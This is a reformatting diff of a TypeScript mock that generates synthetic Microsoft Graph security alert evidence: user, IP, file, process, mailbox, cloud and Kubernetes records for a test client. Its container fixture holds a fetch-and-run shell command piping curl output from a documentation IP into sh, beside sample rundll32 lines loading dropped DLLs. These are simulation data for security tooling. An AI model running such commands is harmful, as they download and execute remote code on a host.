@@ -19,29 +19,65 @@ const NS = '#microsoft.graph.security.';
 
 /** The 31 evidence types of Graph v1.0 (alertEvidence's derived types). */
 export const V1_EVIDENCE_TYPES = [
-  'amazonResourceEvidence', 'analyzedMessageEvidence', 'azureResourceEvidence', 'blobContainerEvidence', 'blobEvidence',
-  'cloudApplicationEvidence', 'cloudLogonRequestEvidence', 'cloudLogonSessionEvidence', 'containerEvidence', 'containerImageEvidence',
-  'containerRegistryEvidence', 'deviceEvidence', 'fileEvidence', 'googleCloudResourceEvidence', 'ipEvidence', 'kubernetesClusterEvidence',
-  'kubernetesControllerEvidence', 'kubernetesNamespaceEvidence', 'kubernetesPodEvidence', 'kubernetesSecretEvidence',
-  'kubernetesServiceAccountEvidence', 'kubernetesServiceEvidence', 'mailClusterEvidence', 'mailboxEvidence', 'oauthApplicationEvidence',
-  'processEvidence', 'registryKeyEvidence', 'registryValueEvidence', 'securityGroupEvidence', 'urlEvidence', 'userEvidence',
+  'amazonResourceEvidence',
+  'analyzedMessageEvidence',
+  'azureResourceEvidence',
+  'blobContainerEvidence',
+  'blobEvidence',
+  'cloudApplicationEvidence',
+  'cloudLogonRequestEvidence',
+  'cloudLogonSessionEvidence',
+  'containerEvidence',
+  'containerImageEvidence',
+  'containerRegistryEvidence',
+  'deviceEvidence',
+  'fileEvidence',
+  'googleCloudResourceEvidence',
+  'ipEvidence',
+  'kubernetesClusterEvidence',
+  'kubernetesControllerEvidence',
+  'kubernetesNamespaceEvidence',
+  'kubernetesPodEvidence',
+  'kubernetesSecretEvidence',
+  'kubernetesServiceAccountEvidence',
+  'kubernetesServiceEvidence',
+  'mailClusterEvidence',
+  'mailboxEvidence',
+  'oauthApplicationEvidence',
+  'processEvidence',
+  'registryKeyEvidence',
+  'registryValueEvidence',
+  'securityGroupEvidence',
+  'urlEvidence',
+  'userEvidence',
 ] as const;
 
 /** Beta-only types the mock also sends: a client must show them by their @odata.type, never drop them. */
 export const BETA_EVIDENCE_TYPES = ['dnsEvidence', 'fileHashEvidence'] as const;
 
-function camel(s: string): string { return s ? s[0].toLowerCase() + s.slice(1) : s; }
+function camel(s: string): string {
+  return s ? s[0].toLowerCase() + s.slice(1) : s;
+}
 
 /** FNV-1a of the text: a stable seed per alert, so its derived evidence never changes between calls. */
 function hashSeed(text: string): number {
   let h = 0x811c9dc5;
-  for (let i = 0; i < text.length; i++) { h ^= text.charCodeAt(i); h = Math.imul(h, 0x01000193); }
+  for (let i = 0; i < text.length; i++) {
+    h ^= text.charCodeAt(i);
+    h = Math.imul(h, 0x01000193);
+  }
   return h >>> 0;
 }
 
-export function alertPrng(a: DefenderAlert, salt: string): Prng { return new Prng(hashSeed(`${a.alertId}/${salt}`)); }
+export function alertPrng(a: DefenderAlert, salt: string): Prng {
+  return new Prng(hashSeed(`${a.alertId}/${salt}`));
+}
 
-interface Ctx { a: DefenderAlert; r: Prng; created: string }
+interface Ctx {
+  a: DefenderAlert;
+  r: Prng;
+  created: string;
+}
 
 function base(type: string, c: Ctx, roles: string[], detailedRoles: string[], e?: DefenderEntity, tags: string[] = []): Evidence {
   return {
@@ -66,7 +102,8 @@ function rolesOf(e: DefenderEntity, a: DefenderAlert, nth: number): { roles: str
   switch (e.entityType) {
     case 'User':
       if (nth > 0 && a.serviceSource === 'AzureAdIdentityProtection') return { roles: ['attacked'], detailed: ['Targeted account'] };
-      if (['InitialAccess', 'CredentialAccess', 'Impact', 'Exfiltration', 'LateralMovement', 'DefenseEvasion'].includes(cat)) return { roles: ['compromised'], detailed: ['Compromised account'] };
+      if (['InitialAccess', 'CredentialAccess', 'Impact', 'Exfiltration', 'LateralMovement', 'DefenseEvasion'].includes(cat))
+        return { roles: ['compromised'], detailed: ['Compromised account'] };
       return { roles: ['contextual'], detailed: ['Logged on user'] };
     case 'Ip':
       if (cat === 'CommandAndControl') return { roles: ['commandAndControl', 'destination'], detailed: ['C2 server'] };
@@ -83,7 +120,9 @@ function rolesOf(e: DefenderEntity, a: DefenderAlert, nth: number): { roles: str
     case 'Process':
       return nth === 0 ? { roles: ['suspicious'], detailed: ['Parent process'] } : { roles: ['created'], detailed: ['Child process'] };
     case 'MailBox':
-      return cat === 'Impact' || cat === 'DefenseEvasion' ? { roles: ['compromised'], detailed: ['Compromised mailbox'] } : { roles: ['destination'], detailed: ['Recipient'] };
+      return cat === 'Impact' || cat === 'DefenseEvasion'
+        ? { roles: ['compromised'], detailed: ['Compromised mailbox'] }
+        : { roles: ['destination'], detailed: ['Recipient'] };
     case 'MailMessage':
       return { roles: ['suspicious'], detailed: [] };
     case 'Registry':
@@ -99,20 +138,30 @@ function rolesOf(e: DefenderEntity, a: DefenderAlert, nth: number): { roles: str
 
 function userAccount(e: Pick<DefenderEntity, 'accountName' | 'domainName' | 'userSid' | 'aadUserId' | 'userPrincipalName'>): Record<string, unknown> {
   return {
-    accountName: e.accountName ?? null, domainName: e.domainName ?? null, userSid: e.userSid ?? null, azureAdUserId: e.aadUserId ?? null,
-    userPrincipalName: e.userPrincipalName ?? null, displayName: null,
+    accountName: e.accountName ?? null,
+    domainName: e.domainName ?? null,
+    userSid: e.userSid ?? null,
+    azureAdUserId: e.aadUserId ?? null,
+    userPrincipalName: e.userPrincipalName ?? null,
+    displayName: null,
   };
 }
 
 function fileDetails(e: DefenderEntity, r: Prng): Record<string, unknown> {
   return {
-    fileName: e.fileName ?? null, filePath: e.filePath ?? null, sha1: e.sha1 ?? null, sha256: e.sha256 ?? null,
-    fileSize: r.int(2_048, 8_000_000), filePublisher: null, signer: null, issuer: null,
+    fileName: e.fileName ?? null,
+    filePath: e.filePath ?? null,
+    sha1: e.sha1 ?? null,
+    sha256: e.sha256 ?? null,
+    fileSize: r.int(2_048, 8_000_000),
+    filePublisher: null,
+    signer: null,
+    issuer: null,
   };
 }
 
 function deviceEvidence(d: DefenderDevice, c: Ctx, primary: boolean): Evidence {
-  const ip = `10.${(c.r.int(1, 40))}.${c.r.int(0, 255)}.${c.r.int(2, 254)}`;
+  const ip = `10.${c.r.int(1, 40)}.${c.r.int(0, 255)}.${c.r.int(2, 254)}`;
   return {
     ...base('deviceEvidence', c, primary ? ['compromised'] : ['contextual'], primary ? ['PrimaryDevice'] : [], undefined, [...d.tags]),
     firstSeenDateTime: d.firstSeen,
@@ -144,40 +193,110 @@ function entityEvidence(e: DefenderEntity, c: Ctx, nth: number): Evidence[] {
     case 'User':
       return [{ ...b('userEvidence', c.r.chance(0.15) ? ['Executive'] : []), userAccount: userAccount(e), stream: null }];
     case 'Ip':
-      return [{ ...b('ipEvidence'), ipAddress: e.ipAddress ?? null, countryLetterCode: e.ipAddress?.startsWith('10.') ? null : c.r.pick(['NL', 'RU', 'US', 'DE', 'SG', 'BR']), location: null, stream: null }];
+      return [
+        {
+          ...b('ipEvidence'),
+          ipAddress: e.ipAddress ?? null,
+          countryLetterCode: e.ipAddress?.startsWith('10.') ? null : c.r.pick(['NL', 'RU', 'US', 'DE', 'SG', 'BR']),
+          location: null,
+          stream: null,
+        },
+      ];
     case 'Url':
       return [{ ...b('urlEvidence'), url: e.url ?? null }];
     case 'File':
-      return [{ ...b('fileEvidence'), fileDetails: fileDetails(e, c.r), mdeDeviceId: e.deviceId ?? null, detectionStatus: c.r.pick(['detected', 'blocked', 'prevented'] as const) }];
+      return [
+        {
+          ...b('fileEvidence'),
+          fileDetails: fileDetails(e, c.r),
+          mdeDeviceId: e.deviceId ?? null,
+          detectionStatus: c.r.pick(['detected', 'blocked', 'prevented'] as const),
+        },
+      ];
     case 'Process':
-      return [{
-        ...b('processEvidence'), processId: e.processId ?? null, parentProcessId: e.parentProcessId ?? null,
-        processCommandLine: e.processCommandLine ?? null, processCreationDateTime: e.processCreationTime ?? null,
-        parentProcessCreationDateTime: e.parentProcessCreationTime ?? null, imageFile: fileDetails(e, c.r),
-        parentProcessImageFile: { fileName: 'explorer.exe', filePath: 'C:\\Windows', sha1: null, sha256: null, fileSize: null, filePublisher: 'Microsoft Corporation', signer: null, issuer: null },
-        userAccount: userAccount(e), mdeDeviceId: e.deviceId ?? null, detectionStatus: 'detected',
-      }];
+      return [
+        {
+          ...b('processEvidence'),
+          processId: e.processId ?? null,
+          parentProcessId: e.parentProcessId ?? null,
+          processCommandLine: e.processCommandLine ?? null,
+          processCreationDateTime: e.processCreationTime ?? null,
+          parentProcessCreationDateTime: e.parentProcessCreationTime ?? null,
+          imageFile: fileDetails(e, c.r),
+          parentProcessImageFile: {
+            fileName: 'explorer.exe',
+            filePath: 'C:\\Windows',
+            sha1: null,
+            sha256: null,
+            fileSize: null,
+            filePublisher: 'Microsoft Corporation',
+            signer: null,
+            issuer: null,
+          },
+          userAccount: userAccount(e),
+          mdeDeviceId: e.deviceId ?? null,
+          detectionStatus: 'detected',
+        },
+      ];
     case 'MailBox':
-      return [{ ...b('mailboxEvidence'), primaryAddress: e.mailboxAddress ?? null, displayName: e.mailboxDisplayName ?? null, userAccount: { ...userAccount({}), userPrincipalName: e.mailboxAddress ?? null } }];
+      return [
+        {
+          ...b('mailboxEvidence'),
+          primaryAddress: e.mailboxAddress ?? null,
+          displayName: e.mailboxDisplayName ?? null,
+          userAccount: { ...userAccount({}), userPrincipalName: e.mailboxAddress ?? null },
+        },
+      ];
     case 'MailMessage':
-      return [{
-        ...b('analyzedMessageEvidence'), networkMessageId: e.networkMessageId ?? null, internetMessageId: `<${e.networkMessageId ?? 'x'}@mail.example>`,
-        recipientEmailAddress: e.recipient ?? null, senderIp: e.senderIp ?? null, subject: e.subject ?? null,
-        // Graph's deliveryAction and deliveryLocation enums.
-        deliveryAction: e.deliveryAction === 'Junked' ? 'deliveredToJunk' : e.deliveryAction === 'Blocked' ? 'blocked' : e.deliveryAction ? 'delivered' : 'unknown',
-        deliveryLocation: e.deliveryAction === 'Junked' ? 'junkFolder' : e.deliveryAction === 'Blocked' ? 'quarantine' : 'inbox_folder',
-        antiSpamDirection: 'Inbound', attachmentsCount: c.a.category === 'InitialAccess' && /malware/i.test(c.a.title) ? 1 : 0, urlCount: 1, language: 'en',
-        threatDetectionMethods: ['URL detonation reputation'], threats: ['Phish'], receivedDateTime: e.evidenceCreationTime ?? c.created, urls: [], urn: null,
-        p1Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
-        p2Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
-      }];
+      return [
+        {
+          ...b('analyzedMessageEvidence'),
+          networkMessageId: e.networkMessageId ?? null,
+          internetMessageId: `<${e.networkMessageId ?? 'x'}@mail.example>`,
+          recipientEmailAddress: e.recipient ?? null,
+          senderIp: e.senderIp ?? null,
+          subject: e.subject ?? null,
+          // Graph's deliveryAction and deliveryLocation enums.
+          deliveryAction:
+            e.deliveryAction === 'Junked' ? 'deliveredToJunk' : e.deliveryAction === 'Blocked' ? 'blocked' : e.deliveryAction ? 'delivered' : 'unknown',
+          deliveryLocation: e.deliveryAction === 'Junked' ? 'junkFolder' : e.deliveryAction === 'Blocked' ? 'quarantine' : 'inbox_folder',
+          antiSpamDirection: 'Inbound',
+          attachmentsCount: c.a.category === 'InitialAccess' && /malware/i.test(c.a.title) ? 1 : 0,
+          urlCount: 1,
+          language: 'en',
+          threatDetectionMethods: ['URL detonation reputation'],
+          threats: ['Phish'],
+          receivedDateTime: e.evidenceCreationTime ?? c.created,
+          urls: [],
+          urn: null,
+          p1Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
+          p2Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
+        },
+      ];
     case 'MailCluster':
-      return [{ ...b('mailClusterEvidence'), clusterBy: e.clusterBy ?? null, clusterByValue: e.clusterByValue ?? null, emailCount: c.r.int(2, 40), networkMessageIds: [], query: null, urn: null }];
+      return [
+        {
+          ...b('mailClusterEvidence'),
+          clusterBy: e.clusterBy ?? null,
+          clusterByValue: e.clusterByValue ?? null,
+          emailCount: c.r.int(2, 40),
+          networkMessageIds: [],
+          query: null,
+          urn: null,
+        },
+      ];
     case 'Registry': {
       const key = { registryKey: e.registryKey ?? null, registryHive: e.registryHive ?? null };
       const out: Evidence[] = [];
       if (e.registryValueName !== undefined) {
-        out.push({ ...b('registryValueEvidence'), ...key, mdeDeviceId: e.deviceId ?? null, registryValueName: e.registryValueName, registryValueType: e.registryValueType ?? null, registryValue: e.registryValue ?? null });
+        out.push({
+          ...b('registryValueEvidence'),
+          ...key,
+          mdeDeviceId: e.deviceId ?? null,
+          registryValueName: e.registryValueName,
+          registryValueType: e.registryValueType ?? null,
+          registryValue: e.registryValue ?? null,
+        });
       }
       // The key the value was written under is evidence of its own (the portal lists both).
       out.push({ ...base('registryKeyEvidence', c, ['edited'], [], e), ...key });
@@ -193,7 +312,12 @@ function entityEvidence(e: DefenderEntity, c: Ctx, nth: number): Evidence[] {
 
 // ---- what only Graph knows ------------------------------------------------------------------------
 
-const CLOUD_APPS = [[20893, 'Microsoft Exchange Online'], [15600, 'Microsoft OneDrive for Business'], [20892, 'Microsoft SharePoint Online'], [11161, 'Office 365']] as const;
+const CLOUD_APPS = [
+  [20893, 'Microsoft Exchange Online'],
+  [15600, 'Microsoft OneDrive for Business'],
+  [20892, 'Microsoft SharePoint Online'],
+  [11161, 'Office 365'],
+] as const;
 const OAUTH_APPS = ['Mail Sync Pro', 'PDF Converter Online', 'Calendar Helper 365'] as const;
 const BROWSERS = ['Edge 120.0', 'Chrome 119.0', 'Firefox 121.0', 'Python Requests 2.31'] as const;
 
@@ -208,43 +332,90 @@ function cloudEvidence(c: Ctx): Evidence[] {
   const subscription = r.guid();
   const azure = (name: string, type: string): Evidence => ({
     ...base('azureResourceEvidence', c, ['contextual'], [], undefined),
-    resourceId: `/subscriptions/${subscription}/resourceGroups/rg-data/providers/${type}/${name}`, resourceName: name, resourceType: type,
+    resourceId: `/subscriptions/${subscription}/resourceGroups/rg-data/providers/${type}/${name}`,
+    resourceName: name,
+    resourceType: type,
   });
   const session = (): Evidence => ({
     ...base('cloudLogonSessionEvidence', c, ['suspicious'], ['Sign-in session'], undefined),
     account: user ? { ...base('userEvidence', c, ['compromised'], [], undefined), userAccount: userAccount(user) } : null,
-    browser: r.pick(BROWSERS), deviceName: null, operatingSystem: r.pick(['Windows 10', 'Linux', 'macOS']), previousLogonDateTime: null,
-    protocol: 'OAuth2:Authorize', sessionId: r.guid(), startUtcDateTime: c.created, userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
+    browser: r.pick(BROWSERS),
+    deviceName: null,
+    operatingSystem: r.pick(['Windows 10', 'Linux', 'macOS']),
+    previousLogonDateTime: null,
+    protocol: 'OAuth2:Authorize',
+    sessionId: r.guid(),
+    startUtcDateTime: c.created,
+    userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
   });
   if (a.serviceSource === 'MicrosoftCloudAppSecurity') {
     const [appId, displayName] = r.pick(CLOUD_APPS);
-    out.push({ ...base('cloudApplicationEvidence', c, ['contextual'], ['Accessed application'], undefined), appId, displayName, instanceId: 0, instanceName: displayName, saasAppId: appId, stream: null });
+    out.push({
+      ...base('cloudApplicationEvidence', c, ['contextual'], ['Accessed application'], undefined),
+      appId,
+      displayName,
+      instanceId: 0,
+      instanceName: displayName,
+      saasAppId: appId,
+      stream: null,
+    });
     if (a.category === 'DefenseEvasion') {
-      out.push({ ...base('oauthApplicationEvidence', c, ['suspicious'], ['Consented application'], undefined), appId: r.guid(), displayName: r.pick(OAUTH_APPS), objectId: r.guid(), publisher: 'Unverified' });
+      out.push({
+        ...base('oauthApplicationEvidence', c, ['suspicious'], ['Consented application'], undefined),
+        appId: r.guid(),
+        displayName: r.pick(OAUTH_APPS),
+        objectId: r.guid(),
+        publisher: 'Unverified',
+      });
     }
     if (a.category === 'InitialAccess') out.push(session());
     if (a.category === 'Exfiltration') {
       const account = `stcontoso${r.hex(4)}`;
       const storage = azure(account, 'Microsoft.Storage/storageAccounts');
-      const container = { ...base('blobContainerEvidence', c, ['source'], [], undefined), name: 'finance-exports', storageResource: storage, url: `https://${account}.blob.core.windows.net/finance-exports` };
+      const container = {
+        ...base('blobContainerEvidence', c, ['source'], [], undefined),
+        name: 'finance-exports',
+        storageResource: storage,
+        url: `https://${account}.blob.core.windows.net/finance-exports`,
+      };
       out.push(storage, container, {
-        ...base('blobEvidence', c, ['source'], ['Downloaded blob'], undefined), blobContainer: container, etag: `0x8DC${r.hex(12).toUpperCase()}`,
-        fileHashes: [{ algorithm: 'sha256', value: r.hex(64) }], name: 'payroll-2026.xlsx', url: `https://${account}.blob.core.windows.net/finance-exports/payroll-2026.xlsx`,
+        ...base('blobEvidence', c, ['source'], ['Downloaded blob'], undefined),
+        blobContainer: container,
+        etag: `0x8DC${r.hex(12).toUpperCase()}`,
+        fileHashes: [{ algorithm: 'sha256', value: r.hex(64) }],
+        name: 'payroll-2026.xlsx',
+        url: `https://${account}.blob.core.windows.net/finance-exports/payroll-2026.xlsx`,
       });
     }
     if (a.category === 'Impact') {
       out.push(
-        { ...base('amazonResourceEvidence', c, ['attacked'], [], undefined), amazonAccountId: r.digits(12), amazonResourceId: `arn:aws:s3:::contoso-backups-${r.hex(4)}`, resourceName: 'contoso-backups', resourceType: 'S3 Bucket' },
         {
-          ...base('googleCloudResourceEvidence', c, ['attacked'], [], undefined), fullResourceName: `//storage.googleapis.com/projects/_/buckets/contoso-archive-${r.hex(4)}`,
-          location: 'europe-west1', locationType: 'regional', projectId: 'contoso-prod', projectNumber: Number(r.digits(12)), resourceName: 'contoso-archive', resourceType: 'Bucket',
+          ...base('amazonResourceEvidence', c, ['attacked'], [], undefined),
+          amazonAccountId: r.digits(12),
+          amazonResourceId: `arn:aws:s3:::contoso-backups-${r.hex(4)}`,
+          resourceName: 'contoso-backups',
+          resourceType: 'S3 Bucket',
+        },
+        {
+          ...base('googleCloudResourceEvidence', c, ['attacked'], [], undefined),
+          fullResourceName: `//storage.googleapis.com/projects/_/buckets/contoso-archive-${r.hex(4)}`,
+          location: 'europe-west1',
+          locationType: 'regional',
+          projectId: 'contoso-prod',
+          projectNumber: Number(r.digits(12)),
+          resourceName: 'contoso-archive',
+          resourceType: 'Bucket',
         },
       );
     }
   }
   if (a.serviceSource === 'MicrosoftDefenderForIdentity' && !a.entities.some(e => e.entityType === 'SecurityGroup')) {
     // Identity alerts name the privileged group the targeted account belongs to.
-    out.push({ ...base('securityGroupEvidence', c, ['contextual'], ['Member of'], undefined), securityGroupId: r.guid(), displayName: r.pick(['Domain Admins', 'Account Operators', 'Server Operators'] as const) });
+    out.push({
+      ...base('securityGroupEvidence', c, ['contextual'], ['Member of'], undefined),
+      securityGroupId: r.guid(),
+      displayName: r.pick(['Domain Admins', 'Account Operators', 'Server Operators'] as const),
+    });
   }
   if (a.serviceSource === 'AzureAdIdentityProtection') {
     out.push({ ...base('cloudLogonRequestEvidence', c, ['suspicious'], ['Sign-in request'], undefined), requestId: r.guid() }, session());
@@ -257,28 +428,82 @@ function containerEvidence(c: Ctx, device: DefenderDevice): Evidence[] {
   const { r } = c;
   const ns = r.pick(['payments', 'web', 'batch'] as const);
   const registry = { ...base('containerRegistryEvidence', c, ['contextual'], [], undefined), registry: 'contosoacr.azurecr.io' };
-  const image = { ...base('containerImageEvidence', c, ['contextual'], [], undefined), digestImage: null, imageId: `contosoacr.azurecr.io/${ns}-api@sha256:${r.hex(64)}`, registry };
+  const image = {
+    ...base('containerImageEvidence', c, ['contextual'], [], undefined),
+    digestImage: null,
+    imageId: `contosoacr.azurecr.io/${ns}-api@sha256:${r.hex(64)}`,
+    registry,
+  };
   const cluster = {
-    ...base('kubernetesClusterEvidence', c, ['contextual'], [], undefined), cloudResource: null, distribution: 'AKS', name: `aks-${ns}-prod`, platform: 'aks', version: '1.29.2',
+    ...base('kubernetesClusterEvidence', c, ['contextual'], [], undefined),
+    cloudResource: null,
+    distribution: 'AKS',
+    name: `aks-${ns}-prod`,
+    platform: 'aks',
+    version: '1.29.2',
   };
   const namespace = { ...base('kubernetesNamespaceEvidence', c, ['contextual'], [], undefined), cluster, labels: { team: ns }, name: ns };
   const account = { ...base('kubernetesServiceAccountEvidence', c, ['contextual'], [], undefined), name: `${ns}-sa`, namespace };
-  const controller = { ...base('kubernetesControllerEvidence', c, ['contextual'], [], undefined), labels: { app: `${ns}-api` }, name: `${ns}-api`, namespace, type: 'Deployment' };
+  const controller = {
+    ...base('kubernetesControllerEvidence', c, ['contextual'], [], undefined),
+    labels: { app: `${ns}-api` },
+    name: `${ns}-api`,
+    namespace,
+    type: 'Deployment',
+  };
   const podName = `${ns}-api-${r.hex(10)}-${r.hex(5)}`;
   const pod = {
-    ...base('kubernetesPodEvidence', c, ['compromised'], [], undefined), containers: [], controller, ephemeralContainers: [], initContainers: [], labels: { app: `${ns}-api` },
-    name: podName, namespace, podIp: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.244.${r.int(0, 9)}.${r.int(2, 254)}` }, serviceAccount: account,
+    ...base('kubernetesPodEvidence', c, ['compromised'], [], undefined),
+    containers: [],
+    controller,
+    ephemeralContainers: [],
+    initContainers: [],
+    labels: { app: `${ns}-api` },
+    name: podName,
+    namespace,
+    podIp: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.244.${r.int(0, 9)}.${r.int(2, 254)}` },
+    serviceAccount: account,
   };
   const container = {
-    ...base('containerEvidence', c, ['compromised'], [], undefined), args: ['-c', 'curl -s http://198.51.100.7/x | sh'], command: ['/bin/sh'], containerId: r.hex(64),
-    image, isPrivileged: r.chance(0.3), name: `${ns}-api`, pod,
+    ...base('containerEvidence', c, ['compromised'], [], undefined),
+    args: ['-c', 'curl -s http://198.51.100.7/x | sh'],
+    command: ['/bin/sh'],
+    containerId: r.hex(64),
+    image,
+    isPrivileged: r.chance(0.3),
+    name: `${ns}-api`,
+    pod,
   };
   return [
-    container, image, registry, pod, controller, namespace, cluster, account,
-    { ...base('kubernetesServiceEvidence', c, ['contextual'], [], undefined), clusterIP: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.0.${r.int(0, 255)}.${r.int(2, 254)}` }, externalIPs: [], labels: {}, name: `${ns}-api`, namespace, selector: { app: `${ns}-api` }, servicePorts: [{ port: 443, protocol: 'tcp', targetPort: '8443' }], serviceType: 'clusterIP' },
+    container,
+    image,
+    registry,
+    pod,
+    controller,
+    namespace,
+    cluster,
+    account,
+    {
+      ...base('kubernetesServiceEvidence', c, ['contextual'], [], undefined),
+      clusterIP: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.0.${r.int(0, 255)}.${r.int(2, 254)}` },
+      externalIPs: [],
+      labels: {},
+      name: `${ns}-api`,
+      namespace,
+      selector: { app: `${ns}-api` },
+      servicePorts: [{ port: 443, protocol: 'tcp', targetPort: '8443' }],
+      serviceType: 'clusterIP',
+    },
     { ...base('kubernetesSecretEvidence', c, ['contextual'], ['Accessed secret'], undefined), name: `${ns}-db-credentials`, namespace, secretType: 'Opaque' },
     // The node the pod runs on, named like the device it is.
-    { ...base('ipEvidence', c, ['contextual'], ['Node address'], undefined), ipAddress: `10.240.0.${r.int(4, 250)}`, countryLetterCode: null, location: null, stream: null, hostName: device.deviceDnsName },
+    {
+      ...base('ipEvidence', c, ['contextual'], ['Node address'], undefined),
+      ipAddress: `10.240.0.${r.int(4, 250)}`,
+      countryLetterCode: null,
+      location: null,
+      stream: null,
+      hostName: device.deviceDnsName,
+    },
   ];
 }
 
@@ -288,13 +513,24 @@ function betaEvidence(c: Ctx): Evidence[] {
   const url = a.entities.find(e => e.entityType === 'Url')?.url;
   if (a.category === 'CommandAndControl' && url) {
     let domainName: string;
-    try { domainName = new URL(url).hostname; } catch { domainName = url; }
+    try {
+      domainName = new URL(url).hostname;
+    } catch {
+      domainName = url;
+    }
     const ip = a.entities.find(e => e.entityType === 'Ip')?.ipAddress ?? null;
-    out.push({ ...base('dnsEvidence', c, ['commandAndControl'], [], undefined), domainName, dnsServerIp: { ipAddress: '10.0.0.53' }, hostIpAddress: { ipAddress: ip } });
+    out.push({
+      ...base('dnsEvidence', c, ['commandAndControl'], [], undefined),
+      domainName,
+      dnsServerIp: { ipAddress: '10.0.0.53' },
+      hostIpAddress: { ipAddress: ip },
+    });
   }
   const file = a.entities.find(e => e.entityType === 'File');
-  if (a.category === 'Malware' && file?.sha256) out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'sha256', value: file.sha256 });
-  if (a.category === 'Malware' && r.chance(0.05)) out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'md5', value: r.hex(32) });
+  if (a.category === 'Malware' && file?.sha256)
+    out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'sha256', value: file.sha256 });
+  if (a.category === 'Malware' && r.chance(0.05))
+    out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'md5', value: r.hex(32) });
   return out;
 }
 
@@ -322,9 +558,10 @@ export function alertEvidence(a: DefenderAlert): Evidence[] {
   }
   out.push(...cloudEvidence(c));
   // Container workloads run on Linux nodes and on the application servers.
-  const node = a.serviceSource === 'MicrosoftDefenderForEndpoint'
-    ? a.devices.find(d => d.osPlatform === 'Linux' || (/^srv-(app|web)-/.test(d.deviceDnsName) && CONTAINER_CATEGORIES.has(a.category)))
-    : undefined;
+  const node =
+    a.serviceSource === 'MicrosoftDefenderForEndpoint'
+      ? a.devices.find(d => d.osPlatform === 'Linux' || (/^srv-(app|web)-/.test(d.deviceDnsName) && CONTAINER_CATEGORIES.has(a.category)))
+      : undefined;
   if (node) out.push(...containerEvidence(c, node));
   out.push(...betaEvidence(c));
   cache.set(a, { key, value: out });
@@ -349,14 +586,51 @@ export function padEvidence(inc: DefenderIncident, target: number): void {
   for (let i = 0; have < target; i++, have++) {
     const a = inc.alerts[i % inc.alerts.length];
     const deviceId = a.devices[0]?.mdatpDeviceId;
-    const common = { remediationStatus: r.pick(['None', 'Remediated', 'Blocked'] as const), verdict: r.pick(['Suspicious', 'Malicious', 'NoThreatsFound'] as const), evidenceCreationTime: a.creationTime };
+    const common = {
+      remediationStatus: r.pick(['None', 'Remediated', 'Blocked'] as const),
+      verdict: r.pick(['Suspicious', 'Malicious', 'NoThreatsFound'] as const),
+      evidenceCreationTime: a.creationTime,
+    };
     let e: DefenderEntity;
     switch (i % 5) {
-      case 0: e = { entityType: 'File', fileName: `dropped_${i}.dll`, filePath: 'C:\\Users\\Public\\cache', sha1: r.hex(40), sha256: r.hex(64), ...(deviceId ? { deviceId } : {}) }; break;
-      case 1: e = { entityType: 'Process', fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32', processCommandLine: `rundll32.exe C:\\Users\\Public\\cache\\dropped_${i - 1}.dll,Start`, processId: 1000 + i, parentProcessId: 900 + i, sha1: r.hex(40), sha256: r.hex(64), ...(deviceId ? { deviceId } : {}) }; break;
-      case 2: e = { entityType: 'Ip', ipAddress: `203.0.${(i >> 8) & 255}.${i & 255}` }; break;
-      case 3: e = { entityType: 'Url', url: `https://cdn-${i}.secure-docshare.xyz/p/${r.hex(8)}` }; break;
-      default: e = { entityType: 'User', accountName: `svc${i}`, domainName: 'CONTOSO', userPrincipalName: `svc${i}@contoso.com`, aadUserId: r.guid(), userSid: `S-1-5-21-1004336348-1177238915-682003330-${20000 + i}` };
+      case 0:
+        e = {
+          entityType: 'File',
+          fileName: `dropped_${i}.dll`,
+          filePath: 'C:\\Users\\Public\\cache',
+          sha1: r.hex(40),
+          sha256: r.hex(64),
+          ...(deviceId ? { deviceId } : {}),
+        };
+        break;
+      case 1:
+        e = {
+          entityType: 'Process',
+          fileName: 'rundll32.exe',
+          filePath: 'C:\\Windows\\System32',
+          processCommandLine: `rundll32.exe C:\\Users\\Public\\cache\\dropped_${i - 1}.dll,Start`,
+          processId: 1000 + i,
+          parentProcessId: 900 + i,
+          sha1: r.hex(40),
+          sha256: r.hex(64),
+          ...(deviceId ? { deviceId } : {}),
+        };
+        break;
+      case 2:
+        e = { entityType: 'Ip', ipAddress: `203.0.${(i >> 8) & 255}.${i & 255}` };
+        break;
+      case 3:
+        e = { entityType: 'Url', url: `https://cdn-${i}.secure-docshare.xyz/p/${r.hex(8)}` };
+        break;
+      default:
+        e = {
+          entityType: 'User',
+          accountName: `svc${i}`,
+          domainName: 'CONTOSO',
+          userPrincipalName: `svc${i}@contoso.com`,
+          aadUserId: r.guid(),
+          userSid: `S-1-5-21-1004336348-1177238915-682003330-${20000 + i}`,
+        };
     }
     // A new array, so the evidence cache sees the change.
     a.entities = [...a.entities, { ...e, ...common }];
